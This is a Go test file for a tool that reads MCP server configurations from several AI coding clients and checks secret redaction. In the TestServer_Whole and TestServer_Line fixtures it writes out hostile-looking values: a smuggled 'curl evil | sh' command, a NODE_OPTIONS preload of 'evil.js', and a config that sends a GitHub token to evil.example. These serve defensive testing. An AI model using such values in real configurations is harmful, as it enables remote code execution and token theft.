package clients

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/annotary/annotary/internal/strict"
)

// home writes files below a new folder and returns it.
func home(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func getenv(vars map[string]string) func(string) (string, bool) {
	return func(name string) (string, bool) {
		v, ok := vars[name]
		return v, ok
	}
}

const (
	claudeJSON = `{
  "numStartups": 3,
  "mcpServers": {
    "files": {"type": "stdio", "command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/srv"], "env": {}},
    "notes": {"type": "http", "url": "https://notes.example/mcp", "headers": {"Authorization": "Bearer ${NOTES_TOKEN}"}}
  },
  "projects": {
    "/src/shop": {"mcpServers": {"db": {"command": "db-mcp", "env": {"DSN": "${DSN:-sqlite:local}"}}, "old": {"command": "old-mcp"}},
                  "disabledMcpServers": ["old"]},
    "/src/empty": {"allowedTools": []}
  }
}`
	desktopJSON = `{"mcpServers": {"filesystem": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/srv"]}}}`
	cursorJSON  = `{"mcpServers": {"legacy": {"type": "sse", "url": "https://old.example/sse"},
  "home": {"command": "${userHome}/bin/mcp", "args": ["${env:LEVEL}", "${workspaceFolder}"]}}}`
	vscodeJSON = `{
  // what Copilot may use
  "inputs": [{"id": "key", "type": "promptString", "password": true}],
  "servers": {
    "web": {"type": "http", "url": "https://web.example/mcp" /* no login */ },
    "keyed": {"command": "keyed-mcp", "env": {"API_KEY": "${input:key}", "PORT": 8080, "DEBUG": null},},
  },
}`
	codexTOML = `model = "gpt"
approval_policy = "on-request"

[mcp_servers.files]
command = "npx"
args = ["-y", "@modelcontextprotocol/server-filesystem", "/srv"]

[mcp_servers.tracker]
url = "https://tracker.example/mcp"
bearer_token_env_var = "TRACKER_TOKEN"
http_headers = { "X-Team" = "blue" }

[mcp_servers.paused]
command = "paused-mcp"
env_vars = ["CI", { name = "REMOTE", source = "remote" }]
enabled = false
`
)

func everyClient(t *testing.T) Place {
	t.Helper()
	h := home(t, map[string]string{
		".claude.json": claudeJSON,
		".config/Claude/claude_desktop_config.json": desktopJSON,
		".cursor/mcp.json":                          cursorJSON,
		".config/Code/User/mcp.json":                vscodeJSON,
		".codex/config.toml":                        codexTOML,
		"work/.mcp.json":                            `{"mcpServers": {"team": {"command": "./run.sh"}}}`,
		"work/.vscode/mcp.json":                     `{"servers": {"team": {"command": "./run.sh"}}}`,
	})
	return Place{
		Home: h, Project: filepath.Join(h, "work"), OS: "linux",
		Getenv: getenv(map[string]string{"NOTES_TOKEN": "n-123456", "TRACKER_TOKEN": "t-123456"}),
	}
}

func TestFind(t *testing.T) {
	p := everyClient(t)
	found := Find(p)
	var got []string
	for _, s := range found.Servers {
		line := fmt.Sprintf("%s/%s %s %s %s", s.Client, s.Name, s.Scope, s.Transport, s.Line())
		if s.Disabled {
			line += " (off)"
		}
		if s.Launch.Missing != nil {
			line += " needs " + strings.Join(s.Launch.Missing, ",")
		}
		got = append(got, line)
	}
	want := []string{
		"claude-code/files user stdio npx -y @modelcontextprotocol/server-filesystem /srv",
		"claude-code/notes user http https://notes.example/mcp",
		"claude-code/db user stdio db-mcp",
		"claude-code/old user stdio old-mcp (off)",
		"claude-code/team project stdio ./run.sh",
		"claude-desktop/filesystem user stdio npx -y @modelcontextprotocol/server-filesystem /srv",
		"cursor/home user stdio '${userHome}/bin/mcp' '${env:LEVEL}' '${workspaceFolder}' needs LEVEL",
		"cursor/legacy user sse https://old.example/sse",
		"vscode/keyed user stdio keyed-mcp needs input:key",
		"vscode/web user http https://web.example/mcp",
		"vscode/team project stdio ./run.sh",
		"codex/files user stdio npx -y @modelcontextprotocol/server-filesystem /srv",
		"codex/paused user stdio paused-mcp (off)",
		"codex/tracker user http https://tracker.example/mcp",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("servers (-want +got):\n%s", diff)
	}
	for _, f := range found.Files {
		if f.Problem != "" {
			t.Errorf("%s: %s", f.Path, f.Problem)
		}
	}
	if got, want := len(found.Files), 7; got != want {
		t.Errorf("found %d files, want %d", got, want)
	}
}

func TestLaunch(t *testing.T) {
	p := everyClient(t)
	tests := []struct {
		server string
		want   Launch
	}{
		{"claude-code/notes", Launch{
			Transport: HTTP, URL: "https://notes.example/mcp", Inherit: inheritAll,
			Headers: NewVars(map[string]string{"Authorization": "Bearer n-123456"}),
		}},
		{"claude-code/db", Launch{
			Transport: Stdio, Command: "db-mcp", Dir: "/src/shop", Inherit: inheritAll,
			Env: NewVars(map[string]string{"DSN": "sqlite:local"}),
		}},
		{"cursor/home", Launch{
			Transport: Stdio, Command: p.Home + "/bin/mcp", Args: []string{"${env:LEVEL}", p.Project},
			Inherit: inheritAll, Missing: []string{"LEVEL"},
		}},
		{"vscode/keyed", Launch{
			Transport: Stdio, Command: "keyed-mcp", Inherit: inheritAll, Missing: []string{"input:key"},
			Env: NewVars(map[string]string{"API_KEY": "${input:key}", "PORT": "8080"}),
		}},
		{"vscode/team", Launch{Transport: Stdio, Command: "./run.sh", Dir: p.Project, Inherit: inheritAll}},
		{"codex/tracker", Launch{
			Transport: HTTP, URL: "https://tracker.example/mcp", Inherit: inheritFew,
			Headers: NewVars(map[string]string{"Authorization": "Bearer t-123456", "X-Team": "blue"}),
		}},
		{"codex/paused", Launch{
			Transport: Stdio, Command: "paused-mcp", Inherit: append(slices.Clone(inheritFew), "CI", "REMOTE"),
		}},
	}
	servers := map[string]Server{}
	for _, s := range Find(p).Servers {
		servers[string(s.Client)+"/"+s.Name] = s
	}
	for _, tt := range tests {
		got := servers[tt.server].Launch
		if diff := cmp.Diff(tt.want, got, cmp.AllowUnexported(Vars{}), cmpopts.EquateEmpty()); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.server, diff)
		}
	}
}

// TestFind_Places checks that each system's and each variable's place is read.
func TestFind_Places(t *testing.T) {
	const entry = `{"mcpServers": {"x": {"command": "x"}}}`
	const editor = `{"servers": {"x": {"command": "x"}}}`
	tests := []struct {
		name, os, file, text string
		env                  map[string]string // values below home
	}{
		{"desktop-mac", "darwin", "Library/Application Support/Claude/claude_desktop_config.json", entry, nil},
		{"desktop-windows", "windows", "Roaming/Claude/claude_desktop_config.json", entry, map[string]string{"APPDATA": "Roaming"}},
		{"desktop-windows-unset", "windows", "AppData/Roaming/Claude/claude_desktop_config.json", entry, nil},
		{"desktop-xdg", "linux", "cfg/Claude/claude_desktop_config.json", entry, map[string]string{"XDG_CONFIG_HOME": "cfg"}},
		{"vscode-mac", "darwin", "Library/Application Support/Code/User/mcp.json", editor, nil},
		{"vscode-windows", "windows", "AppData/Roaming/Code/User/mcp.json", editor, nil},
		{"vscode-profile", "linux", ".config/Code/User/profiles/-3a1f/mcp.json", editor, nil},
		{"vscode-insiders", "linux", ".config/Code - Insiders/User/mcp.json", editor, nil},
		{"claude-moved", "linux", "cc/.claude.json", entry, map[string]string{"CLAUDE_CONFIG_DIR": "cc"}},
		{"codex-moved", "linux", "cx/config.toml", "[mcp_servers.x]\ncommand = 'x'\n", map[string]string{"CODEX_HOME": "cx"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := home(t, map[string]string{tt.file: tt.text})
			env := map[string]string{}
			for name, dir := range tt.env {
				env[name] = filepath.Join(h, dir)
			}
			found := Find(Place{Home: h, OS: tt.os, Getenv: getenv(env)})
			if len(found.Servers) != 1 || found.Servers[0].Name != "x" {
				t.Errorf("found %d servers in %v, want x", len(found.Servers), found.Files)
			}
		})
	}
}

// TestFind_Malformed checks that a bad file is reported and hides nothing else.
func TestFind_Malformed(t *testing.T) {
	h := home(t, map[string]string{
		".claude.json":                              `{"mcpServers": {"good": {"command": "good"}, "bad": {"args": []}, "worse": 7, "odd": {"command": "x", "args": [1]}}}`,
		".cursor/mcp.json":                          `{"mcpServers": {`,
		".config/Code/User/mcp.json":                `[]`,
		".codex/config.toml":                        "[mcp_servers.x\n",
		".config/Claude/claude_desktop_config.json": `{"mcpServers": {}, "mcpServers": {}}`,
	})
	found := Find(Place{Home: h})
	if len(found.Servers) != 1 || found.Servers[0].Name != "good" {
		t.Errorf("found %v, want only good", found.Servers)
	}
	want := map[ID]string{
		ClaudeCode:    `server "bad" has neither a command nor a url; server "worse" is not an object; server "odd" has an argument that is not text`,
		ClaudeDesktop: `an object has the same key twice: "mcpServers"`,
		Cursor:        "not valid JSON: it ends too early",
		VSCode:        "it holds no object but array",
		Codex:         "not valid TOML in line 1: expected",
	}
	for _, f := range found.Files {
		if w := want[f.Client]; !strings.HasPrefix(f.Problem, w) {
			t.Errorf("%s: got problem %q, want %q", f.Client, f.Problem, w)
		}
	}
}

// TestFind_Irregular checks that a link to a device in a cloned repository does
// not keep us reading for ever.
func TestFind_Irregular(t *testing.T) {
	h := home(t, nil)
	if err := os.Symlink("/dev/zero", filepath.Join(h, ".mcp.json")); err != nil {
		t.Fatal(err)
	}
	found := Find(Place{Home: "/none", Project: h})
	if len(found.Files) != 1 || found.Files[0].Problem != "it is no regular file" {
		t.Errorf("got %v, want one file with a problem", found.Files)
	}
}

func TestFind_EnvFile(t *testing.T) {
	h := home(t, map[string]string{
		".cursor/mcp.json": `{"mcpServers": {"a": {"command": "a", "envFile": "${userHome}/a.env", "env": {"B": "own"}},
		  "b": {"command": "b", "envFile": "/no/such/file"}}}`,
		"a.env": "# a comment\nA = 'one two'\nexport B=file\n\nC=\"x=y\"\nnonsense\n",
	})
	servers := Find(Place{Home: h}).Servers
	want := map[string]string{"A": "one two", "B": "own", "C": "x=y"}
	if diff := cmp.Diff(want, servers[0].Launch.Env.Reveal()); diff != "" {
		t.Errorf("variables (-want +got):\n%s", diff)
	}
	if got := servers[1].Launch.Missing; !slices.Equal(got, []string{"/no/such/file"}) {
		t.Errorf("missing %q, want the file", got)
	}
}

// TestFind_AtHome checks that a project at home reads no file twice.
func TestFind_AtHome(t *testing.T) {
	h := home(t, map[string]string{".cursor/mcp.json": cursorJSON})
	found := Find(Place{Home: h, Project: h})
	if len(found.Files) != 1 || found.Files[0].Scope != User {
		t.Errorf("got %v, want the user's file once", found.Files)
	}
}

func TestDistinct(t *testing.T) {
	groups := Distinct(Find(everyClient(t)).Servers)
	var got [][]string
	for _, g := range groups {
		if len(g) < 2 {
			continue
		}
		var names []string
		for _, s := range g {
			names = append(names, string(s.Client)+"/"+s.Name)
		}
		got = append(got, names)
	}
	want := [][]string{
		{"claude-code/files", "claude-desktop/filesystem", "codex/files"},
		{"claude-code/team", "vscode/team"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("groups (-want +got):\n%s", diff)
	}
}

// TestSecretsStayInside prints everything there is to print.
func TestSecretsStayInside(t *testing.T) {
	const secret = "hunter2hunter2"
	h := home(t, map[string]string{".claude.json": `{"mcpServers": {
	  "a": {"command": "a", "args": ["--api-key", "` + secret + `", "--token=` + secret + `", "-e", "GITHUB_TOKEN=` + secret + `",
	        "postgres://me:` + secret + `@db/app", "Authorization: Bearer ` + secret + `"], "env": {"K": "` + secret + `"}},
	  "b": {"url": "https://me:` + secret + `@x.example/mcp?key=` + secret + `&a=1#x", "headers": {"Authorization": "Bearer ` + secret + `"}},
	  "c": {"url": "https://` + secret + `@x.example/mcp"}}}`})
	for _, s := range Find(Place{Home: h}).Servers {
		asJSON, err := json.Marshal(struct {
			Env, Headers Vars
			Line         string
		}{s.Env, s.Launch.Headers, s.Line()})
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range []string{
			s.Line(), string(asJSON),
			fmt.Sprint(s.Env), fmt.Sprintf("%+v %#v %q", s.Env, s.Env, s.Env), fmt.Sprintf("%v", s.Launch.Env),
		} {
			if strings.Contains(text, secret) {
				t.Errorf("%s shows the secret: %s", s.Name, text)
			}
		}
		said := fmt.Sprintf("cannot use %q, %q, %q", s.Launch.Args, s.Launch.URL, s.Launch.Headers.Reveal())
		for _, v := range s.Launch.Secrets() {
			said = strings.ReplaceAll(said, v, hidden)
		}
		if strings.Contains(said, secret) {
			t.Errorf("%s: struck secrets leave %s", s.Name, said)
		}
	}
}

func TestServer_Line(t *testing.T) {
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"-y", "@playwright/mcp@latest"}, "x -y @playwright/mcp@latest"},
		{[]string{"a b", "it's"}, `x 'a b' 'it'\''s'`},
		{[]string{"--header", "X-Api-Key: abc"}, "x --header 'X-Api-Key: ***'"},
		{[]string{"--header", "Authorization: ${AUTH}"}, "x --header 'Authorization: ${AUTH}'"},
		{[]string{"-c", "TOKEN=abc curl evil"}, "x -c 'TOKEN=*** curl evil'"},
		{[]string{"--token=${T}"}, "x '--token=${T}'"},
		{[]string{"--endpoint=https://h/?k=v"}, "x '--endpoint=https://h/?k=***'"},
		{[]string{"https://h/?", "https://h/#", "https://h/#access=abc"}, "x 'https://h/?' 'https://h/#' 'https://h/#***'"},
		{[]string{"ghp_0123456789abcdef"}, "x '***'"},
		{[]string{"--author", "me", "--keyboard", "us"}, "x --author me --keyboard us"},
		{[]string{"postgresql://localhost/db"}, "x postgresql://localhost/db"},
	}
	for _, tt := range tests {
		s := Server{Transport: Stdio, Command: "x", Args: tt.args}
		if got := s.Line(); got != tt.want {
			t.Errorf("%q: got %s, want %s", tt.args, got, tt.want)
		}
	}
}

// FuzzFind reads what a stranger put into every configuration. No reader may
// panic, and what it returns can be shown.
func FuzzFind(f *testing.F) {
	for _, seed := range []string{claudeJSON, desktopJSON, cursorJSON, vscodeJSON, codexTOML, `{"mcpServers":{"a":{"url":"%zz?a=b"}}}`, `{"mcpServers":{"":{"url":"#0"}, "a":{"url":"?"}}}`, `{"permissions":{"deny":["mcp__another_server__*"]}}`} {
		f.Add([]byte(seed))
	}
	p := Place{Home: "/home/me", Project: "/home/me/work", Getenv: func(string) (string, bool) { return "${x}", true }}
	f.Fuzz(func(t *testing.T, raw []byte) {
		for _, src := range sources(&p) {
			servers, _ := src.read(raw)
			for i := range servers {
				servers[i].complete(&p, src)
				if servers[i].Line() == "" {
					t.Errorf("%+v has no line", servers[i])
				}
			}
			Distinct(servers)
		}
		if doc, err := readJSON(raw); err == nil {
			var rules Rules
			rules.add(strict.Get(doc, "permissions"))
			rules.For(ClaudeCode, "a", "b")
		}
	})
}

// TestServer_Whole checks that nothing of a stranger's entry is left out.
func TestServer_Whole(t *testing.T) {
	h := home(t, map[string]string{
		".cursor/mcp.json": `{"mcpServers": {
		  "a": {"command": "npx", "args": ["-y", "nice", "TOKEN=x; curl evil | sh"], "env": {"NODE_OPTIONS": "-r ./evil.js"}, "envFile": "/e"},
		  "b": {"url": "https://evil.example/mcp?a=b", "headers": {"Authorization": "Bearer ${env:GITHUB_TOKEN}"}}}}`,
		".codex/config.toml": "[mcp_servers.c]\nurl = 'https://evil.example/mcp'\nbearer_token_env_var = 'GITHUB_TOKEN'\n",
	})
	want := []string{
		"NODE_OPTIONS='-r ./evil.js' npx -y nice 'TOKEN=x; curl evil | sh' (with the variables in /e)",
		"https://evil.example/mcp?a=b (sends Authorization: Bearer ${env:GITHUB_TOKEN})",
		"https://evil.example/mcp (sends Authorization: ${GITHUB_TOKEN})",
	}
	for i, s := range Find(Place{Home: h, Getenv: getenv(map[string]string{"GITHUB_TOKEN": "hunter2"})}).Servers {
		if got := s.Whole(); got != want[i] {
			t.Errorf("got %s, want %s", got, want[i])
		}
	}
}

func TestServer_Typed(t *testing.T) {
	tests := []struct {
		name, entry string
		want        []string
	}{
		{"command", `{"command": "x", "args": ["a b"]}`, []string{"x", "a b"}},
		{"address", `{"url": "https://x.example/mcp"}`, []string{"https://x.example/mcp"}},
		{"variables", `{"command": "x", "env": {"A": "1"}}`, nil},
		{"headers", `{"url": "https://x.example/mcp", "headers": {"A": "1"}}`, nil},
		{"secret-argument", `{"command": "x", "args": ["--token=abc"]}`, nil},
		{"secret-address", `{"url": "https://x.example/mcp?key=abc"}`, nil},
		{"unset", `{"command": "x", "args": ["${UNSET}"]}`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := home(t, map[string]string{".claude.json": `{"mcpServers": {"s": ` + tt.entry + `}}`})
			if got := Find(Place{Home: h}).Servers[0].Typed(); !slices.Equal(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestLaunch_Environment(t *testing.T) {
	ours := []string{"PATH=/bin", "SECRET=ours", "A=ours"}
	own := NewVars(map[string]string{"A": "own"})
	tests := []struct {
		name    string
		inherit []string
		want    map[string]string
	}{
		{"all", inheritAll, map[string]string{"PATH": "/bin", "SECRET": "ours", "A": "own"}},
		{"few", inheritFew, map[string]string{"PATH": "/bin", "A": "own"}},
	}
	for _, tt := range tests {
		l := Launch{Env: own, Inherit: tt.inherit}
		if diff := cmp.Diff(tt.want, l.Environment(ours)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
}

func TestProjectAt(t *testing.T) {
	h := home(t, map[string]string{
		"repo/.git/HEAD": "", "repo/a/b/x": "", "repo/sub/.mcp.json": "{}", "repo/sub/c/x": "", "plain/d/x": "", ".git/HEAD": "",
	})
	for folder, want := range map[string]string{
		"repo": "repo", "repo/a/b": "repo", "repo/sub/c": "repo/sub", "plain/d": "plain/d", "": "",
	} {
		if got := ProjectAt(filepath.Join(h, folder), h); got != filepath.Join(h, want) {
			t.Errorf("%s: got %s, want %s", folder, got, want)
		}
	}
}
